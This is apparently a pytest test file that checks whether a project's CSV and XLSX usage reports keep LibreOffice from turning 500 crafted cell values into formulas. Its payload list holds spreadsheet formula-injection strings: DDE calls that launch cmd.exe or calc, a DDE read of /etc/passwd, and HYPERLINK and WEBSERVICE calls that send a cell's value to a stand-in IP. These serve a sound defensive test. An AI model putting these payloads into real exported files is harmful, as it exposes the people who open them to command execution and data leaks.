"""LibreOffice opens the CSV for spreadsheets: of 500 texts that look like formulas none becomes one (SAFETY: Files).

Not among the tests of `make test`, for which LibreOffice takes too long to install: `make spreadsheets` runs it.
"""

import re
import subprocess
from collections.abc import Callable
from itertools import product
from pathlib import Path

import pytest
from tests.bookkeeping import report, usage
from tests.figures import Note

from tallybook.metering.summary import Summary
from tallybook.reports.building import Form, Format, Profile
from tallybook.subscriptions.models import Subscription

FULL_WIDTH = "\N{FULLWIDTH EQUALS SIGN}\N{FULLWIDTH PLUS SIGN}\N{FULLWIDTH HYPHEN-MINUS}\N{FULLWIDTH COMMERCIAL AT}"
BEGINNINGS = (*"=+-@", "\t=", "\r=", "\n=", "==", "=-", "+=", "-=", "@=", " =", "'=", '"=', "=\t", *FULL_WIDTH)
BODIES = [
    "",
    "1+1",
    "A1",
    "$A$1",
    "SUM(1;2)",
    "SUM(1,2)",
    "cmd|' /C calc'!A0",
    "MSEXCEL|'\\..\\cmd.exe /c calc.exe'!''",
    '"a"&"b"',
    'HYPERLINK("http://192.0.2.7/?x="&A1;"click")',
    'HYPERLINK("http://192.0.2.7","x")',
    'WEBSERVICE("http://192.0.2.7")',
    'IMPORTXML("http://192.0.2.7","//a")',
    'DDE("soffice";"/etc/passwd";"A1")',
    "ROW()",
    "NOW()",
    "RAND()",
    "{1;2}",
    "1=1",
    "TRUE()",
    'INDIRECT("A1")',
    'CELL("filename")',
    'INFO("system")',
    "1,5",
    "1;2",
    "x",
    "",
][1:-1]
PAYLOADS = [start + body for start, body in product(BEGINNINGS, BODIES)]
# Comma, quotation mark, UTF-8, from the first line; special numbers are detected and formulas evaluated.
AS_CSV = "CSV:44,34,76,1,,0,false,true,true,false,false,0,true"
LONGEST_SECONDS = 180
FORMULA = re.compile(r'table:formula="([^"]*)"')


def formulas(folder: Path, *names: str, how: str = "") -> list[list[str]]:
    """The formulas that LibreOffice sees in each of these files, which it takes `how` it is told."""
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    read = [f"--infilter={how}"] if how else []
    command = ["soffice", profile, "--headless", "--norestore", *read, "--convert-to", "fods", *names]
    subprocess.run(command, cwd=folder, check=True, capture_output=True, timeout=LONGEST_SECONDS)
    opened = [(folder / name).with_suffix(".fods").read_text(encoding="utf-8") for name in names]
    assert all("Anchor Ltd" in sheet for sheet in opened)
    return [FORMULA.findall(sheet) for sheet in opened]


@pytest.fixture
def filled(subscription: Subscription, take: Callable[..., Summary]) -> Subscription:
    """A subscription with an object for each payload, in its name, its details, its plan and its id."""
    rows = [
        usage(object_name=text, object_details=text, plan=text, object_id=f"{text}{number}")
        for number, text in enumerate(PAYLOADS)
    ]
    summary = take(rows)
    assert (len(PAYLOADS), summary.new) == (500, 500)
    return subscription


def test_no_text_becomes_a_formula(filled: Subscription, tmp_path: Path, figure: Note) -> None:
    (tmp_path / "protected.csv").write_bytes(report(filled, Form(profile=Profile.EXCEL)))
    (tmp_path / "unprotected.csv").write_bytes(report(filled))
    (tmp_path / "workbook.xlsx").write_bytes(report(filled, Form(format=Format.XLSX)))
    protected, unprotected = formulas(tmp_path, "protected.csv", "unprotected.csv", how=AS_CSV)
    (workbook,) = formulas(tmp_path, "workbook.xlsx")
    figure("Formula cells of 500 payloads in LibreOffice, CSV for Excel", len(protected))
    figure("Formula cells of 500 payloads in LibreOffice, XLSX", len(workbook))
    figure("Formula cells of 500 payloads in LibreOffice, CSV for programs, which nothing protects", len(unprotected))
    assert (protected, workbook) == ([], [])
    # Without the protection LibreOffice does see them.
    assert len(unprotected) > 100
